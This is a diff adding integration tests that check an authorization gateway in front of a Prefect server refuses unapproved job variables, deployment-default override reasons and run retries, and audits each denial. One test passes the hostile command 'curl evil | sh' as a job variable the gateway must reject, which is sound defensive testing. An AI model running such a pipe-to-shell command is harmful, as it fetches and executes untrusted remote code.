@@ -7,11 +7,14 @@ from collections.abc import Iterator
 from contextlib import contextmanager
 from typing import Any
 
+import httpx
 import pytest
 from prefect.blocks.system import Secret
 from prefect.client.orchestration import SyncPrefectClient, get_client
 from prefect.exceptions import PrefectHTTPStatusError
 from prefect.settings import PREFECT_API_AUTH_STRING, PREFECT_API_URL, temporary_settings
+
+from tests.integration.gateway.test_bypasses import _denied
 
 pytestmark = pytest.mark.integration
 
@@ -60,10 +63,15 @@ def test_runner_starts_with_parameters_but_not_with_job_variables(team: Any, dep
     with as_user(team, "rune") as client:
         run = client.create_flow_run_from_deployment(deployment["deployment_id"], parameters={"x": 2})
         assert run.parameters == {"x": 2}
+        before = len(team.audit())
         assert _status(lambda: client.create_flow_run_from_deployment(
             deployment["deployment_id"], job_variables={"command": "curl evil | sh"})) == 403
+        record = _denied(team, before, 403, "with job_variables needs the develop permission")
+        assert record["user"] == "rune" and "curl evil" not in str(record)
+        before = len(team.audit())
         assert _status(lambda: client.create_flow_run_from_deployment(
             deployment["deployment_id"], work_queue_name="elsewhere")) == 403
+        _denied(team, before, 403, "with work_queue_name")
     with team.client("rune") as http:
         reply = http.patch(f"/w/core/api/deployments/{deployment['deployment_id']}", json={"paused": True})
         assert reply.status_code == 403
@@ -133,3 +141,69 @@ def test_change_window_overrides_need_an_approver_and_record_who(team: Any, depl
     overrides = [r for r in team.audit() if r["action"] == "change.override"]
     assert overrides and overrides[-1]["user"] == "otto"
     assert overrides[-1]["detail"]["reason"] == "INC-7 core link down"
+
+
+def test_change_window_overrides_as_deployment_defaults_need_an_approver(team: Any) -> None:
+    """A default override_reason would reach every run of the deployment without the run's request showing it."""
+    with as_user(team, "dev") as client:  # set-up with Prefect's client, which retries a busy server's 503
+        flow_id = str(client.create_flow_from_name(f"gw-defaults-{uuid.uuid4().hex[:6]}"))
+        deployment_id = str(client.create_deployment(flow_id=flow_id, name="gw-defaults", parameters={"x": 1}))
+    with team.client("dev") as http:
+        base = {"name": "gw-defaults", "flow_id": flow_id}
+        attempts = {
+            "parameters": {**base, "parameters": {"override_reason": "always"}},
+            "schema default": {**base, "parameter_openapi_schema": {
+                "type": "object", "properties": {"override_reason": {"type": "string", "default": "always"}}}},
+            "resume_of": {**base, "parameters": {"resume_of": "0b7c6a9e-0000-4000-8000-000000000000"}},
+        }
+        for case, body in attempts.items():
+            before = len(team.audit())
+            reply = http.post("/w/core/api/deployments/", json=body)
+            assert reply.status_code == 403 and "only an approver" in reply.json()["detail"], (case, reply.text)
+            assert _denied(team, before, 403, "deployment default")["user"] == "dev"
+        before = len(team.audit())
+        patched = http.patch(f"/w/core/api/deployments/{deployment_id}",
+                             json={"parameters": {"override_reason": "always"}})
+        assert patched.status_code == 403
+        _denied(team, before, 403, "deployment default")
+        claimed = http.patch(f"/w/core/api/deployments/{deployment_id}",
+                             json={"parameters": {"x": 2, "override_by": "somebody"}})
+        assert claimed.status_code == 204
+        assert "override_by" not in http.get(f"/w/core/api/deployments/{deployment_id}").json()["parameters"]
+    with team.client("otto") as http:  # an owner holds the approver's permission: allowed, stamped, audited
+        reply = http.patch(f"/w/core/api/deployments/{deployment_id}",
+                           json={"parameters": {"override_reason": "INC-9 standing window", "override_by": "x"}})
+        assert reply.status_code == 204, reply.text
+        saved = http.get(f"/w/core/api/deployments/{deployment_id}").json()["parameters"]
+        assert saved["override_by"] == "otto"
+    overrides = [r for r in team.audit() if r["action"] == "change.override" and r["user"] == "otto"]
+    assert overrides[-1]["detail"]["as"] == "deployment default"
+    assert overrides[-1]["detail"]["reason"] == "INC-9 standing window"
+
+
+def test_retrying_a_finished_deploy_config_run_needs_an_approver(team: Any) -> None:
+    """A retry resumes the change from its ledger under the earlier approval (nornflow.flows.deploy_config)."""
+    upstream = team.running.gateway.upstreams["core"]
+    internal = {"authorization": upstream.authorization}
+    runs: dict[str, str] = {}
+    with as_user(team, "dev") as client:  # set-up with Prefect's client, which retries a busy server's 503
+        for flow in ("deploy_config", f"gw-other-{uuid.uuid4().hex[:6]}"):
+            deployment_id = client.create_deployment(flow_id=client.create_flow_from_name(flow), name="gw-retry")
+            run_id = str(client.create_flow_run_from_deployment(deployment_id).id)
+            failed = httpx.post(f"{upstream.api_url}/flow_runs/{run_id}/set_state", headers=internal,
+                                json={"state": {"type": "FAILED", "name": "Failed"}, "force": True})
+            assert failed.status_code in (200, 201), failed.text  # test set-up, straight to the server
+            runs[flow] = run_id
+    retry = {"state": {"type": "SCHEDULED", "name": "AwaitingRetry"}, "force": True}  # what the UI's retry sends
+    change, other = runs.pop("deploy_config"), next(iter(runs.values()))
+    with team.client("rune") as http:
+        before = len(team.audit())
+        refused = http.post(f"/w/core/api/flow_runs/{change}/set_state", json=retry)
+        assert refused.status_code == 403 and "only an approver may retry" in refused.json()["detail"]
+        assert _denied(team, before, 403, "deploy_config")["user"] == "rune"
+        assert http.post(f"/w/core/api/flow_runs/{other}/set_state", json=retry).status_code in (200, 201)
+    with team.client("svc-worker") as http:  # a worker's (and every flow run's) token is no approver either
+        assert http.post(f"/w/core/api/flow_runs/{change}/set_state", json=retry).status_code == 403
+    with team.client("otto") as http:
+        allowed = http.post(f"/w/core/api/flow_runs/{change}/set_state", json=retry)
+        assert allowed.status_code in (200, 201), allowed.text
